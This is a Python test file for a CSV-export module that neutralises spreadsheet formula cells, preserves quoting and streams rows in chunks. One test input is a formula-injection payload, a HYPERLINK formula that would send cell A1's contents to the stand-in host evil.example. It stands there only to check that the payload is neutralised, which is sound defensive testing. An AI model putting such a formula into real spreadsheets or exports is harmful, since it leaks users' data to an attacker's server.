"""core.csvsafe: formula cells neutralised, quoting intact, rows streamed in chunks."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from advocacy.core import csvsafe
from advocacy.core.csvsafe import safe_cell, stream_rows


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("=1+1", "'=1+1"),
        (-5, "'-5"),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("", ""),
        ("Maria", "Maria"),
        ("a=b", "a=b"),
        ("O'Brien", "O'Brien"),
        (" =x", " =x"),
        (42, "42"),
        (True, "yes"),
        (False, "no"),
        (datetime(2026, 12, 1, 14, 5, 6, 789, tzinfo=UTC), "2026-12-01T14:05:06+00:00"),
        (date(2026, 12, 1), "2026-12-01"),
    ],
)
def test_other_cells_are_their_plain_text(value, expected):
    assert safe_cell(value) == expected


def read(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks), newline="")))


def test_quoting_survives_commas_quotes_and_newlines():
    rows = [["a,b", 'say "hi"', "two\nlines", "cr\r\nlf"], ["=x,y", "-1", "plain", ""]]
    text = "".join(stream_rows(["one", "two", "three", "four"], rows))
    assert text.startswith("one,two,three,four\r\n")
    assert read([text]) == [
        ["one", "two", "three", "four"],
        ["a,b", 'say "hi"', "two\nlines", "cr\r\nlf"],
        ["'=x,y", "'-1", "plain", ""],
    ]


def test_the_header_is_neutralised_too():
    assert read(stream_rows(["=bad"], [])) == [["'=bad"]]


def test_rows_come_in_chunks(monkeypatch):
    monkeypatch.setattr(csvsafe, "CHUNK_ROWS", 10)
    chunks = list(stream_rows(["n"], ([i] for i in range(25))))
    assert len(chunks) == 3  # the header with rows 0-9, rows 10-19, then the last 5
    assert read(chunks) == [["n"], *([str(i)] for i in range(25))]


def test_a_byte_order_mark_only_when_asked():
    assert "".join(stream_rows(["a"], [], bom=True)) == "\ufeffa\r\n"
    assert "".join(stream_rows(["a"], [])) == "a\r\n"


def test_rows_are_read_lazily():
    seen: list[int] = []

    def rows():
        for i in range(5000):
            seen.append(i)
            yield [i]

    chunks = stream_rows(["n"], rows())
    next(chunks)
    assert len(seen) == csvsafe.CHUNK_ROWS  # one chunk's rows, not all of them
